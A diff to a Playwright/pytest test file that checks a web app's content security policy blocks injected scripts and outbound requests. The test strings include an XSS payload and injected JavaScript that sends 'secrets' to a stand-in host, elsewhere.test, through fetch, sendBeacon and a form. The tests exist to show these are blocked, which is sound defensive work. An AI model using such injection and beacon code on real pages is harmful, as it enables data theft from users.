@@ -13,7 +13,7 @@ from playwright.sync_api import Page, expect
 from space.host.headers import policy
 from space.host.open_routes import OPEN
 from space.page.modules import BASE
-from tests.pages import until_quiet
+from tests.pages import until_quiet, watch
 from tests.processes import Lab
 
 ROUTES = [
@@ -27,7 +27,7 @@ EVIL = b"<script>parent.hacked = 1</script><svg xmlns='http://www.w3.org/2000/sv
 
 @pytest.fixture(scope="module")
 def client(lab: Lab):
-    with httpx.Client(base_url=lab.url, timeout=60) as client:
+    with httpx.Client(base_url=lab.url, timeout=120) as client:
         yield client
 
 
@@ -77,7 +77,11 @@ def test_an_uploaded_file_runs_nothing(client: httpx.Client, name: str, asked: d
         assert answer.headers["content-type"].startswith("application/octet-stream")
 
 
-INJECTED = """async () => {
+EXPECTED = {
+    *("script-src-elem", "script-src-attr"),
+    *("img-src", "connect-src", "frame-src", "form-action"),
+}
+INJECTED = """async (expected) => {
   window.violations = [];
   document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
   const add = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
@@ -96,7 +100,9 @@ INJECTED = """async () => {
   add("form", { action: "https://elsewhere.test/" }); document.body.lastElementChild.submit();
   await fetch("https://elsewhere.test/").catch(() => {});
   navigator.sendBeacon("https://elsewhere.test/", "secrets");
-  await new Promise((resolve) => setTimeout(resolve, 500));
+  const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
+  while (!expected.every((one) => violations.includes(one)) && performance.now() < 100_000) await pause(50);
+  await pause(500);
   const module = await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
   return [window.hacked ?? null, [...new Set(violations)].sort(), String(module)];
 }"""
@@ -107,20 +113,14 @@ def test_a_script_that_gets_into_the_page_does_not_run(browser, lab: Lab):
     """And nothing leaves for elsewhere. A WebAssembly module of our own may run."""
     context = browser.new_context()
     page, left = context.new_page(), []
+    watch(page)
     context.route("https://elsewhere.test/**", lambda route: (left.append(route.request.url), route.abort()))
     page.goto(lab.url)
     page.get_by_role("tab").first.wait_for()
-    hacked, violations, module = page.evaluate(INJECTED)
+    hacked, violations, module = page.evaluate(INJECTED, list(EXPECTED))
     context.close()
     assert (hacked, left, module) == (None, [], "[object WebAssembly.Module]")
-    assert set(violations) >= {
-        "script-src-elem",
-        "script-src-attr",
-        "img-src",
-        "connect-src",
-        "frame-src",
-        "form-action",
-    }
+    assert set(violations) >= EXPECTED
 
 
 @pytest.mark.browser
@@ -130,7 +130,7 @@ def test_another_site_may_show_the_lab_in_a_frame(page: Page, lab: Lab, tmp_path
     with ThreadingHTTPServer(("127.0.0.1", 0), serve) as other:  # another port is another origin
         Thread(target=other.serve_forever, daemon=True).start()
         page.goto(f"http://127.0.0.1:{other.server_port}/")
-        expect(page.frame_locator("iframe").locator("#game .count")).not_to_be_empty(timeout=60_000)
+        expect(page.frame_locator("iframe").locator("#game .count")).not_to_be_empty()
         other.shutdown()
 
 
